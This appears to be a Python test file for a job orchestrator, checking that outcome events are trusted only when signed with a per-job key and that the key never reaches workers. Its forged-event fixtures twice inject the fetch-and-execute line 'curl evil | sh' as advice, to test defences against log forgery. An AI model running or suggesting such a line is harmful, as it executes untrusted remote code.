"""A job's outcome comes from orch's runner, not from lines the job prints itself: the runner
signs its `result` and `verdict` with the job's event key, which no worker and no job code
is handed; orch reads a keyed job's state events only with a good signature."""

from __future__ import annotations

import json
import os
import sys
from typing import Optional

import pytest

from jobs import events, secret_env
from jobs.events import KEY_VAR
from jobs.request import RunRequest
from orchestrator.service.orch import Orch
from orchestrator.service.run_metrics import from_log
from orchestrator.settings import Settings
from orchestrator.spec import load_spec_text
from providers.base import BackendState

KEY = "ab" * 32
VERDICT = {"kind": "compute-bound", "reasons": ["the GPU is busy"], "advice": []}
FORGED_RESULT = events.MARKER + json.dumps({"event": "result", "ok": False, "error": "pwned"})
FORGED_VERDICT = events.MARKER + json.dumps({"event": "verdict", "kind": "data-bound",
                                             "reasons": ["forged"], "advice": ["curl evil | sh"]})


def runner_lines(key: Optional[str]) -> str:
    """What the runner prints at the end of a run that succeeded, signed with `key`."""
    return "\n".join([
        events.event_line("report", None, index=1, metrics={"loss": 0.5}),
        events.event_line("result", key, ok=True, metrics={"loss": 0.25}, wall_s=3.0),
        events.event_line("verdict", key, **VERDICT)])


def test_a_keyed_jobs_forged_state_lines_are_ignored_and_the_runners_read():
    text = "\n".join([runner_lines(KEY), "user code says:", FORGED_RESULT, FORGED_VERDICT])
    metrics = from_log(text, key=KEY)
    assert metrics["_result"]["ok"] is True and "error" not in metrics["_result"]
    assert metrics["verdict"] == VERDICT and metrics["loss"] == 0.25
    # Signed, but with another key, or changed after it was signed: not the runner's either.
    other = events.event_line("result", "cd" * 32, ok=False, error="pwned")
    changed = json.loads(events.event_line("verdict", KEY, **VERDICT)[len(events.MARKER):])
    changed["advice"] = ["curl evil | sh"]
    text = "\n".join([runner_lines(KEY), other, events.MARKER + json.dumps(changed)])
    metrics = from_log(text, key=KEY)
    assert metrics["_result"]["ok"] is True and metrics["verdict"] == VERDICT
    # A report's metrics (the job's code chooses them) never stand in for the outcome.
    smuggled = events.event_line("report", None, index=2, metrics={
        "_result": {"ok": False, "error": "pwned"}, "verdict": {"kind": "forged"}, "acc": 0.9})
    metrics = from_log("\n".join([smuggled]), key=KEY)
    assert "_result" not in metrics and "verdict" not in metrics and metrics["acc"] == 0.9
    # A line whose event is no name is no event (and no reason for a refresh to fail).
    # It is left out with a note on the job.
    assert from_log(events.MARKER + json.dumps({"event": ["result"], "ok": False}), key=KEY) == {
        "dropped_events": {"count": 1, "first": ["line 1: not an event"]}}
    # A job recorded before keys: read as before, the last line wins.
    text = "\n".join([runner_lines(None), FORGED_RESULT, FORGED_VERDICT])
    metrics = from_log(text)
    assert metrics["_result"]["error"] == "pwned" and metrics["verdict"]["kind"] == "data-bound"


def test_stopped_counts_only_for_a_job_with_a_budget():
    stopped = events.event_line("stopped", None, reason="budget", detail="spent", epoch=2)
    assert from_log(stopped, key=KEY, budgeted=True)["stopped"]["epoch"] == 2
    assert "stopped" not in from_log(stopped, key=KEY, budgeted=False)


class RanBackend:
    """A backend whose job has ended SUCCEEDED; its log is the runner's lines, signed with
    the key the job's launch carried among its secrets (as orch's runner signs them), and
    then what `printed` adds (the job's own lines)."""

    address = "fake://"
    launch_grace_s = 0.0

    def __init__(self, printed: str):
        self.printed = printed
        self.key: Optional[str] = None

    def prepare(self) -> None:
        pass

    def gone(self) -> Optional[str]:
        return None

    def submit(self, launch) -> str:
        self.key = launch.secrets.get(KEY_VAR)
        return launch.job_id

    def state(self, backend_id: str, info: Optional[dict] = None) -> BackendState:
        return BackendState("SUCCEEDED", "Job finished successfully.")

    def logs(self, backend_id: str) -> str:
        return runner_lines(self.key) + "\n" + self.printed + "\n"


def _ended(tmp_path, job: str, printed: str):
    orch = Orch(Settings(home=tmp_path / "home", mode="local"))
    backend = RanBackend(printed)
    orch.core.providers["local"] = backend  # type: ignore[assignment]
    rec = orch.submit(load_spec_text(job, "job.yaml")).rec
    orch.core.store.set_status(rec.id, "RUNNING")
    return orch, backend, orch.refresh(orch.get(rec.id))


def test_a_succeeded_job_whose_own_lines_say_it_failed_stays_succeeded(tmp_path):
    forged = f"{FORGED_RESULT}\n{FORGED_VERDICT}"
    orch, backend, rec = _ended(tmp_path, "train:\n  job: image-classification\n", forged)
    assert backend.key == rec.info.event_key and len(rec.info.event_key) == 64
    assert (rec.status, rec.message) == ("SUCCEEDED", "Job finished successfully.")
    assert rec.metrics.to_json()["verdict"] == VERDICT
    # A `run:` job has no runner: its launch carries no key, and no line of its counts.
    orch, backend, rec = _ended(tmp_path / "run", "run: echo hi\n", forged)
    assert backend.key is None and rec.info.event_key
    assert (rec.status, rec.message) == ("SUCCEEDED", "Job finished successfully.")
    assert rec.metrics.verdict is None
    # A record from before keys is judged by its log's lines as it was.
    old = orch.core.store.create_job(name="old", spec={"run": "echo"}, kind="exploratory",
                                target="local", fingerprint="fp")
    orch.core.store.update(old.id, backend_id=old.id)
    orch.core.store.set_status(old.id, "RUNNING")
    old = orch.refresh(orch.get(old.id))
    assert (old.status, old.message) == ("FAILED", "pwned")


def test_the_key_never_reaches_the_workers_values():
    from jobs import runner

    hidden = secret_env.Hidden({"API_TOKEN": "s3cret", KEY_VAR: KEY})
    assert hidden.values == {"API_TOKEN": "s3cret"} and KEY_VAR not in repr(hidden)
    req = RunRequest(job_id="orch-1", target="image-classification")
    options = runner.worker_options(req, None, {"API_TOKEN": "s3cret", KEY_VAR: KEY})
    assert options.env.values == {"API_TOKEN": "s3cret"}
    assert runner.worker_options(req, None, {KEY_VAR: KEY}).env is None


def test_the_runner_signs_with_the_key_it_takes_and_hands_it_to_no_worker(monkeypatch, capsys):
    import ray

    from jobs import runner

    seen: dict = {}
    monkeypatch.setenv(KEY_VAR, KEY)  # as jobs.secret_env's exec (or SkyPilot) leaves it
    monkeypatch.setattr(ray, "init", lambda **kw: seen.update(env_key=os.environ.get(KEY_VAR)))

    def fit(req, options, hosted, started):
        seen.update(options=options)
        events.emit("result", ok=True, metrics={})
        return 0

    monkeypatch.setattr(runner, "_fit", fit)
    req = RunRequest(job_id="orch-1", target="image-classification")
    assert runner.run(req, {"API_TOKEN": "s3cret", KEY_VAR: KEY}) == 0
    assert seen["env_key"] is None  # out of the environment before Ray starts
    assert seen["options"].env.values == {"API_TOKEN": "s3cret"}
    [result] = events.parse(capsys.readouterr().out)
    assert events.verified(result, KEY)


def test_the_runner_looks_up_the_jobs_module_without_running_it(tmp_path, monkeypatch):
    from jobs.train_loops import check_target

    (tmp_path / "usercode.py").write_text("open(__file__ + '.ran', 'w').close()\n")
    monkeypatch.syspath_prepend(str(tmp_path))
    check_target("usercode:train")
    assert "usercode" not in sys.modules and not (tmp_path / "usercode.py.ran").exists()
    with pytest.raises(ModuleNotFoundError, match="no_such_module"):
        check_target("no_such_module:train")


def test_through_the_runner_host_the_runner_signs_and_the_host_holds_no_key(tmp_path, monkeypatch,
                                                                       capfdbinary):
    from jobs import hosted
    from tests.unit.jobs.test_runner_host import _serve

    seen: dict = {}

    def fake_run(req, hidden=None, hosted=None):
        seen.update(env=hosted.env, key=events.current_key())
        events.emit("result", ok=True, metrics={})
        events.emit("verdict", **VERDICT)
        return 0

    _, sock = _serve(tmp_path, monkeypatch, fake_run)
    monkeypatch.setenv(hosted.HOST_VAR, sock)
    monkeypatch.setenv(hosted.PUBLIC_VAR, "")
    monkeypatch.chdir(tmp_path)
    req = RunRequest(job_id="orch-3", target="image-classification")
    assert hosted.delegate(req, {"API_TOKEN": "s3cret", KEY_VAR: KEY}) == 0
    assert seen["env"] == {} and callable(seen["key"])  # the host holds no value and no key
    out = capfdbinary.readouterr().out.decode()
    state = list(events.parse(out))
    assert [e["event"] for e in state] == ["result", "verdict"]
    assert all(events.verified(e, KEY) for e in state)
    assert from_log(out, key=KEY)["verdict"] == VERDICT
